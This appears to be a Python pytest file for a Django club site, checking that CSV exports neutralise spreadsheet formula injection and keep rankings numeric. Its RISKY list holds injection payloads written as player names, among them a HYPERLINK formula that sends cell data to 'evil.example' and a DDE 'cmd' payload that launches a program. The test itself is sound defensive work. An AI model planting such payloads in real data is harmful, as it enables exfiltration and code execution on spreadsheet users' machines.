"""Every CSV the site writes opens safely and cleanly in a spreadsheet."""

import codecs
import csv
import io
import itertools
from decimal import Decimal

import pytest
from django.urls import reverse

from bench.league import play_drive
from drives.downloads import FORMULA_STARTS, spreadsheet_cell
from drives.models import LeagueRule, SeatRole
from tests.conftest import make_drive, make_player, make_season

pytestmark = pytest.mark.django_db

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Prize list")',
    "=1+1",
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tTabitha",
    "\rCarriage",
]
ACCENTED = "Zoé Ősz-Ünnepné ♥♦♠♣"


@pytest.fixture
def played(club):
    season = make_season(club, league_rule=LeagueRule.BEST, best_n=1)
    players = [
        make_player(club, name=name, role=(SeatRole.LADY, SeatRole.GENT)[number % 2])
        for number, name in enumerate([*RISKY, ACCENTED])
    ]
    # One round of four deals: partners score alike, so every rank is shared ("=1").
    drive = make_drive(club, season=season, deals=4, deals_per_round=4)
    play_drive(drive, players, seed=3)
    return drive, season


def read_back(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def downloads(drive, season):
    return {
        "standings": reverse("drives:standings_csv", args=[drive.pk]),
        "results": reverse("drives:results_csv", args=[drive.pk]),
        "league": reverse("drives:league_csv", args=[season.pk]),
    }


def test_no_cell_of_any_csv_can_run_as_a_formula(client, played):
    for name, url in downloads(*played).items():
        rows = read_back(client.get(url))
        cells = [cell for row in rows[1:] for cell in row]
        formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
        assert formulas == [], name
        for risky in RISKY:
            assert "'" + risky in cells, (name, risky)
        assert ACCENTED in cells, name


def test_places_are_numbers_that_sort_and_shared_places_share_the_number(client, played):
    drive, season = played
    rows = read_back(client.get(reverse("drives:standings_csv", args=[drive.pk])))
    # Partners score alike, so places are shared (the page shows "=1"): the CSV gives
    # 1, 1, 3, 3, … numbers in order, each place counting the players above it.
    for csv_rows in (rows, read_back(client.get(reverse("drives:league_csv", args=[season.pk])))):
        places = [int(row[0]) for row in csv_rows[1:]]
        assert places[0] == 1 and len(set(places)) < len(places)
        assert all(
            place in (before, number)
            for number, (before, place) in enumerate(itertools.pairwise(places), start=2)
        )
    assert "=1" in client.get(reverse("drives:standings", args=[drive.pk])).content.decode()


def test_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not():
    assert spreadsheet_cell(-4) == -4
    assert spreadsheet_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_cell("-4") == "'-4"
    assert spreadsheet_cell("=3") == "'=3"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("Ann = Bob") == "Ann = Bob"
